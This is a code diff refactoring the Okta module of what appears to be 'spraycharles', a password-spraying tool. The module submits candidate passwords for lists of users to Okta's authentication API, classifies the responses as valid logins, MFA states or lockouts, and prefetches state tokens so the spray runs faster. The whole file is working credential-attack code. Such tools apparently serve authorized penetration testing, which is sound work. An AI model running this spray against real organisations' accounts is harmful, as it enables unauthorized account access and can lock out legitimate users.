@@ -1,13 +1,53 @@
-import json
-import requests
-import datetime
+from spraycharles.lib.utils import SprayResult, UsernameFormat
+from spraycharles.lib.logger import logger
 
-from spraycharles.lib.utils import SprayResult
-from spraycharles.lib.logger import logger, JSON_FMT
+from .classes.Attempt import AttemptResult, HttpRequest
+from .classes.BaseHttpTarget import BaseHttpTarget
+from .classes.Prefetch import Prefetcher
 
-class Okta:
+
+class Okta(BaseHttpTarget):
     NAME = "Okta"
     DESCRIPTION = "Spray Okta API"
+    USERNAME_FORMAT = UsernameFormat.UPN
+
+    #
+    # stateTokens for the next users are fetched while the current password
+    # is verified, and used for up to this many seconds (Okta expires them
+    # after five minutes)
+    #
+    STATE_TOKEN_TTL = 120
+    PREFETCH_AHEAD = 2
+
+    # errorCode of a verify request with an expired or unknown stateToken
+    INVALID_TOKEN = "E0000011"
+
+    # statuses taken from https://developer.okta.com/docs/reference/api/authn/#response-example-for-primary-authentication-with-public-application-success
+    RULES = [
+        # Login returned early - stateToken missing
+        {"json": "errorSummary", "value": "Authentication failed", "result": "Error", "message": "Okta resp missing stateToken"},
+
+        # standard fail
+        {"json": "errorSummary", "result": "Fail", "message": "{value}"},
+
+        # Account lockout
+        {"status": 200, "json": "status", "value": "LOCKED_OUT", "result": "Locked", "message": "Account appears locked"},
+
+        # Valid and password expired
+        {"status": 200, "json": "status", "value": "PASSWORD_EXPIRED", "result": "Success", "message": "Password Expired; no MFA"},
+
+        # Valid and not enrolled in MFA yet
+        {"status": 200, "json": "status", "value": "MFA_ENROLL", "result": "Success", "message": "Valid login; needs MFA enrollment"},
+
+        # Valid and MFA required
+        {"status": 200, "json": "status", "value": "MFA_REQUIRED", "result": "Success", "message": "Valid login; MFA required"},
+
+        # Valid and no MFA
+        {"status": 200, "json": "status", "value": "SUCCESS", "result": "Success", "message": "Valid login; no MFA"},
+
+        # failsafe for all other cases
+        {"result": "Fail", "message": "Unknown result returned"},
+    ]
 
 
     def __init__(self, host, port, timeout, fireprox):
@@ -46,54 +86,90 @@ class Okta:
         # password submission json
         self.data2 = {"password": "", "stateToken": ""}
 
+        self.prefetcher = Prefetcher(self._fetch_token, ttl=self.STATE_TOKEN_TTL, ahead=self.PREFETCH_AHEAD)
 
-    def set_username(self, username):
-        self.data["username"] = username
 
-
-    def set_password(self, password):
-        self.data2["password"] = password
+    #
+    # Both endpoints need switching to HTTP if --no-ssl set
+    #
+    def set_plain_http(self):
+        self.url = self.url.replace("https://", "http://", 1)
+        self.url2 = self.url2.replace("https://", "http://", 1)
 
 
-    def set_token(self, token):
-        self.data2["stateToken"] = token
+    def prepare(self, username, password):
+        return HttpRequest(
+            username,
+            password,
+            url=self.url,
+            headers=self.headers,
+            json={**self.data, "username": username},
+            timeout=self.timeout,
+        )
 
 
-    def login(self, username, password):
-        # set data
-        self.set_username(username)
-        # post the request
-        response = requests.post(
-            self.url,
+    #
+    # Password verification request, once a stateToken was issued for the user
+    #
+    def prepare_verify(self, spec, token):
+        return HttpRequest(
+            spec.username,
+            spec.password,
+            url=self.url2,
             headers=self.headers,
-            json=self.data,
+            json={**self.data2, "password": spec.password, "stateToken": token},
             timeout=self.timeout,
-            verify=False,
-        )  # , proxies=self.proxyDict)
+        )
+
+
+    def upcoming(self, usernames):
+        self.prefetcher.upcoming(usernames)
+
+
+    def skip(self, username):
+        self.prefetcher.invalidate(username)
+
+
+    #
+    # Top-level field of a JSON response, or None
+    #
+    @staticmethod
+    def _field(response, name):
+        try:
+            data = response.json()
+        except ValueError:
+            return None
+        return data.get(name) if isinstance(data, dict) else None
+
+
+    #
+    # Primary authentication for a queued user, run in the background
+    #
+    def _fetch_token(self, username):
+        return Okta._field(self.transport.send(self.prepare(username, None)), "stateToken")
+
+
+    def send(self, spec):
+        self.prefetcher.prefetch_after(spec.username)
+
+        token = self.prefetcher.take(spec.username)
+        if token is not None:
+            response = self.transport.send(self.prepare_verify(spec, token))
+
+            # the token went stale server-side - fall back to a fresh one
+            if response.status_code in (401, 403) and Okta._field(response, "errorCode") == self.INVALID_TOKEN:
+                logger.debug("Prefetched stateToken for %s was rejected", spec.username)
+            else:
+                return response
+
+        response = self.transport.send(spec)
 
         # get the stateToken for password submission
-        data = response.json()
-        token = ""
-        if "stateToken" in data.keys():
-            token = data["stateToken"]
-        else:
-            # temp debug
-            # print("[DEBUG] stateToken missing from Okta response;")
-            # raise ValueError(f"Okta response missing stateToken")
+        token = Okta._field(response, "stateToken")
+        if token is None:
             return response
 
-        self.set_password(password)
-        self.set_token(token)
-        # post the request
-        response = requests.post(
-            self.url2,
-            headers=self.headers,
-            json=self.data2,
-            timeout=self.timeout,
-            verify=False,
-        )  # , proxies=self.proxyDict)
-
-        return response
+        return self.transport.send(self.prepare_verify(spec, token))
 
 
     #
@@ -115,97 +191,33 @@ class Okta:
         print("-" * len(header))
 
 
+    def timeout_result(self, spec):
+        return AttemptResult(spec.username, spec.password, result="Fail", message="Timeout", timeout=True)
+
+
     #
     # Print individual login attempt result
     #
-    def print_response(self, response, outfile, timeout=False, print_to_screen=True):
-        if timeout:
-            code = "TIMEOUT"
-            length = "TIMEOUT"
-        else:
-            code = response.status_code
-            length = str(len(response.content))
-
-        data = response.json()
-
-        result = None
-
-        if "errorSummary" in data.keys():
-            if data["errorSummary"] == "Authentication failed":
-                # Login returned early - stateToken missing
-                result = "Error"
-                message = "Okta resp missing stateToken"
-            else:
-                # standard fail
-                result = "Fail"
-                message = data["errorSummary"]
-
-        # statuses taken from https://developer.okta.com/docs/reference/api/authn/#response-example-for-primary-authentication-with-public-application-success
-        elif response.status_code == 200 and "status" in data.keys():
-            # print(f"[DEBUG]: {data}")
-            # Account lockout
-            if data["status"] == "LOCKED_OUT":
-                result = "Fail"
-                message = "Account appears locked"
-
-            # Valid and not enrolled in MFA yet
-            elif data["status"] == "PASSWORD_EXPIRED":
-                result = "Success"
-                message = "Password Expired; no MFA"
-
-            # Valid and not enrolled in MFA yet
-            elif data["status"] == "MFA_ENROLL":
-                result = "Success"
-                message = "Valid login; needs MFA enrollment"
-
-            # Valid and MFA required
-            elif data["status"] == "MFA_REQUIRED":
-                result = "Success"
-                message = "Valid login; MFA required"
-
-        # failsafe for all other cases
-        else:
-            result = "Fail"
-            message = "Unknown result returned"
-
-        if print_to_screen:
-            print(
-                "%-13s %-30s %-35s %-25s %13s %15s"
-                % (
-                    result,
-                    message,
-                    self.data["username"],
-                    self.data2["password"],
-                    code,
-                    length,
-                )
+    def print_result(self, result):
+        print(
+            "%-13s %-30s %-35s %-25s %13s %15s"
+            % (
+                result.result,
+                result.message,
+                result.username,
+                result.password,
+                result.shown("code"),
+                result.shown("length"),
             )
-
-        self.log_attempt(result, message, code, length, outfile)
-
-        if response.status_code == 429:
-            logger.error("Encountered HTTP response code 429; killing spray")
-            exit()
+        )
 
 
     #
-    # Log attempt as JSON object to file
+    # Okta rate limiting is a hard stop
     #
-    def log_attempt(self, result, message, code, length, outfile):
-        output = open(outfile, "a")
-        data = json.dumps(
-            {
-                SprayResult.TIMESTAMP       : datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%d %H:%M:%S"),
-                SprayResult.MODULE          : self.__class__.__name__,
-                SprayResult.RESULT          : result,
-                SprayResult.MESSAGE         : message,
-                SprayResult.USERNAME        : self.data["username"],
-                SprayResult.PASSWORD        : self.data2["password"],
-                SprayResult.RESPONSE_CODE   : code,
-                SprayResult.RESPONSE_LENGTH : length,
-            }
-        )
-        logger.debug(data, extra=JSON_FMT)
-        output.write(data)
-        output.write("\n")
-        output.close()
\ No newline at end of file
+    def report(self, result, outfile, print_to_screen=True):
+        super().report(result, outfile, print_to_screen)
+
+        if result.code == 429:
+            logger.error("Encountered HTTP response code 429; killing spray")
+            exit()